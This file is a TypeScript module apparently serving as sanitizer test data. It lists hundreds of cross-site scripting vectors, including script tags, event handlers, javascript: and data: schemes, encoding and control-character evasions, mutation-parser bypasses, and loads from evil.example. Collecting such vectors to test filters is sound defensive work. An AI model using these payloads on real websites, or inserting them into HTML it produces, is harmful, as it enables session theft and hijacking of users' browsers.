/** Ways to smuggle script into HTML, one a line, by kind. `X` stands for code that would run. */

const lines = (text: string): string[] => text.split("\n").filter((line) => line.trim() !== "");

const elements = lines(`
<script>X()</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/src="https://evil.example/x.js"></script>
<script	src=x>X()</script >
<scr<script>ipt>X()</scr</script>ipt>
<<script>X()//<</script>
<script>a</script foo>X()
</script><script>X()</script>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(javascript:X())}</style>
<link rel=stylesheet href=javascript:X()>
<link rel="import" href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:X()">
<meta charset="utf-7">+ADw-script+AD4-X()+ADw-/script+AD4-
<base href="javascript:X()//">
<iframe src=javascript:X()></iframe>
<iframe srcdoc="&lt;script&gt;X()&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>X()</script>"></iframe>
<frameset><frame src=javascript:X()></frameset>
<object data=javascript:X()></object>
<object type=text/html data="data:text/html,<script>X()</script>"></object>
<object><param name=movie value=javascript:X()></object>
<embed src=javascript:X()>
<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=X()>">
<applet code=X archive=https://evil.example/x.jar></applet>
<form action=javascript:X()><input type=submit></form>
<form><button formaction=javascript:X()>x</button></form>
<input type=image src=x onerror=X()>
<isindex type=image src=1 onerror=X()>
<keygen autofocus onfocus=X()>
<select autofocus onfocus=X()><option>x</option></select>
<textarea autofocus onfocus=X()>x</textarea>
<portal src=javascript:X()></portal>
<fencedframe src=javascript:X()></fencedframe>
<bgsound src=javascript:X()>
<layer src=https://evil.example/x.html></layer>
<xml id=x><i><b>&lt;img src=1 onerror=X()&gt;</b></i></xml>
<x-widget onclick=X()>x</x-widget>
<slot onslotchange=X()></slot>
<dialog open oncancel=X()>x</dialog>
`);

const attributes = lines(String.raw`
<img src=x onerror=X()>
<img src=x onerror="X()"
<img src="x" ONERROR=X()>
<img/src=x/onerror=X()>
<img	src=x	onerror	=	X()>
<img src='x'onerror=X()>
<img """><script>X()</script>">
<img src=x:x onerror=X()//
<img src="a\" onerror=X()">
<img title="</a><img src=x onerror=X()>" src=x>
<img alt="--><script>X()</script>" src=x>
<img src=x =onerror=X()>
<img src=x "onerror=X()>
<image src=x onerror=X()>
<body onload=X()>
<body background=javascript:X()>
<table background=javascript:X()><td>x</td></table>
<td background=javascript:X()>x
<div style="background:url(javascript:X())">x</div>
<div style="width:expression(X())">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<div style="behavior:url(x.htc)">x</div>
<p style="position:fixed;inset:0">x</p>
<b onmouseover=X()>x</b>
<a onclick=X() href=#>x</a>
<a href=x target=_blank ping=https://evil.example/ onauxclick=X()>x</a>
<details open ontoggle=X()>x</details>
<video src=x onerror=X()></video>
<video><source onerror=X()></video>
<audio src onloadstart=X()></audio>
<video poster=javascript:X()></video>
<marquee onstart=X()>x</marquee>
<div contenteditable onbeforeinput=X() autofocus tabindex=1>x</div>
<p popover id=p onbeforetoggle=X()>x</p>
<div is=x-widget data-bind="X()">x</div>
<div v-html="X()" ng-app x-data="X()" @click="X()" :src=X()>{{constructor.constructor('X()')()}}</div>
<p xmlns:x=javascript:X() xlink:href=javascript:X()>x</p>
<a/onfocus=X()/autofocus/href=#>x</a>
<a href="x" onclick
=X()>x</a>
<p/onclick=X()>x</p/onclick=X()>
<br size="&{X()}">
<img dynsrc=javascript:X()><img lowsrc=javascript:X()>
<q cite=javascript:X()>x</q>
<blockquote cite="javascript:X()">x</blockquote>
<img src=x longdesc=javascript:X()>
<div class="x" name="body" id="location">x</div>
`);

const schemes = lines(String.raw`
<a href=javascript:X()>x</a>
<a href=JaVaScRiPt:X()>x</a>
<a href=" javascript:X()">x</a>
<a href="java	script:X()">x</a>
<a href="java&#x09;script:X()">x</a>
<a href="java&#10;script:X()">x</a>
<a href="java&#x0D;script:X()">x</a>
<a href="&#1;javascript:X()">x</a>
<a href="&#x20;&#x1F;javascript:X()">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;X()">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058X()">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;X()">x</a>
<a href="javascript&colon;X()">x</a>
<a href="java&Tab;script:X()">x</a>
<a href="java&NewLine;script&colon;X()">x</a>
<a href="&#65279;javascript:X()">x</a>
<a href="javascript://news.example/%0AX()">x</a>
<a href="jav&#x00;ascript:X()">x</a>
<a href="vbscript:X()">x</a>
<a href="livescript:X()">x</a>
<a href="mocha:X()">x</a>
<a href="data:text/html,<script>X()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5YKCk8L3NjcmlwdD4=">x</a>
<a href="data:image/svg+xml,<svg onload=X()>">x</a>
<a href="DATA:text/html,X">x</a>
<a href="blob:https://news.example/1">x</a>
<a href="filesystem:https://news.example/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="about:blank">x</a>
<a href="view-source:javascript:X()">x</a>
<a href="feed:javascript:X()">x</a>
<a href="jar:https://evil.example!/x">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-word:ofe|u|https://evil.example/x">x</a>
<a href="\\evil.example\x">x</a>
<a href="http://javascript:X()@evil.example">x</a>
<img src=javascript:X()>
<img src="data:text/html,X">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9WCgpPg==">
<img srcset="javascript:X() 1x, data:text/html,X 2x">
<img srcset=",javascript:X() 1x">
<img srcset="x 1x,javascript:X()">
<source srcset="javascript:X()">
<picture><source srcset="data:image/svg+xml,X"><img src=x></picture>
<audio src=javascript:X()></audio>
<video><track src="javascript:X()"></video>
<video src="mailto:x@evil.example"></video>
<del cite="vbscript:X()">x</del><ins cite=" javascript:X()">x</ins>
`);

const mutations = lines(`
<noscript><p title="</noscript><img src=x onerror=X()>">
<noscript><style></noscript><img src=x onerror=X()></style>
<svg></p><style><a id="</style><img src=1 onerror=X()>">
<svg><style><img src=x onerror=X()></style></svg>
<svg><title><img src=x onerror=X()></title></svg>
<svg><desc><noscript></desc></svg><img title="</noscript><img src=x onerror=X()>">
<svg><foreignObject><img src=x onerror=X()></foreignObject></svg>
<svg onload=X()>
<svg/onload=X()//
<svg><script>X()</script></svg>
<svg><script href=data:,X() /></svg>
<svg><a xlink:href=javascript:X()><text>x</text></a></svg>
<svg><animate onbegin=X() attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:X() /><text>x</text></a></svg>
<svg><set attributeName=onload to=X() /></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:X()>"/></svg>
<svg><handler type=text/javascript ev:event=load>X()</handler></svg>
<svg><image href=x onerror=X() /></svg>
<svg><![CDATA[><img src=x onerror=X()>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=X()></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X()&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=X() src>">
<math><a xlink:href=javascript:X()>x</a></math>
<math><maction actiontype="statusline#javascript:X()">x</maction></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=X()></style></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>X()</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=X()>
<template><img src=x onerror=X()></template>
<template><script>X()</script></template><p>x
<template shadowrootmode=open><slot></slot><script>X()</script></template>
<style><style/><img src=x onerror=X()>
<style></style ><img src=x onerror=X()>
<style><!--</style><script>X()</script>-->
<title><a href="</title><img src=x onerror=X()>"></title>
<textarea><a title="</textarea><img src=x onerror=X()>"></textarea>
<xmp><p title="</xmp><img src=x onerror=X()>"></xmp>
<noembed><p title="</noembed><img src=x onerror=X()>">
<noframes><p title="</noframes><img src=x onerror=X()>">
<iframe><p title="</iframe><img src=x onerror=X()>">
<plaintext><img src=x onerror=X()>
<listing>&lt;img src=x onerror=X()&gt;</listing>
<!--><img src=x onerror=X()>-->
<!---><img src=x onerror=X()>-->
<!--x--!><img src=x onerror=X()>-->
<!-- --!> <img src=x onerror=X()> -->
<!--[if IE]><script>X()</script><![endif]-->
<![CDATA[<img src=x onerror=X()>]]>
<![CDATA[><img src=x onerror=X()>]]>
<?xml version="1.0"?><img src=x onerror=X()>
<?x><img src=x onerror=X()>?>
<!DOCTYPE x [<!ENTITY x "<script>X()</script>">]>&x;
<!x><img src=x onerror=X()>
</x><img src=x onerror=X()>
</ <img src=x onerror=X()>>
<p title="&lt;/p&gt;&lt;img src=x onerror=X()&gt;">x
<p title='"><img src=x onerror=X()>'>x
<table><tr><td><a href=x><table><a href=javascript:X()>x</a></table></a></td></tr></table>
<table><script>X()</script><tr><img src=x onerror=X()></table>
<select><style></select><img src=x onerror=X()></style>
<option><style></option></select><img src=x onerror=X()></style>
<select><template><noscript><img title="</noscript></template></select><img src=x onerror=X()>"></noscript></template></select>
<a href="x"><p><a href="javascript:X()">x</a></p></a>
<b><p></b><script>X()</script></p>
<pre>
<textarea>
</textarea><img src=x onerror=X()></pre>
<p>&lt;script&gt;X()&lt;/script&gt;</p>
<p>&amp;lt;script&amp;gt;X()</p>
<p>&#60;img src=x onerror=X()&#62;</p>
<p>&lt<b>script</b>&gtX()
%3Cscript%3EX()%3C/script%3E
＜script＞X()＜/script＞
`);

const nul = "\0";

/** With characters that don't survive being typed into a line. */
const controls = [
  `<scr${nul}ipt>X()</script>`,
  `<img src=x on${nul}error=X()>`,
  `<img${"\f"}src=x${"\f"}onerror=X()>`,
  `<img${"\v"}src=x onerror=X()>`,
  `<a href="\u0001\u0002javascript:X()">x</a>`,
  `<a href="java\r\nscript:X()">x</a>`,
  `<a href="\u00A0javascript:X()">x</a>`,
  `<a href="\u2028javascript:X()">x</a>`,
  `<a href="${nul}javascript:X()">x</a>`,
  `<a href="javascript${nul}:X()">x</a>`,
  `<\u212Aeygen onfocus=X()>`,
  `<\u017Fcript>X()</\u017Fcript>`,
  `<a href="\uD800javascript:X()">x</a>`,
];

export const vectors: readonly string[] = [...elements, ...attributes, ...schemes, ...mutations, ...controls];
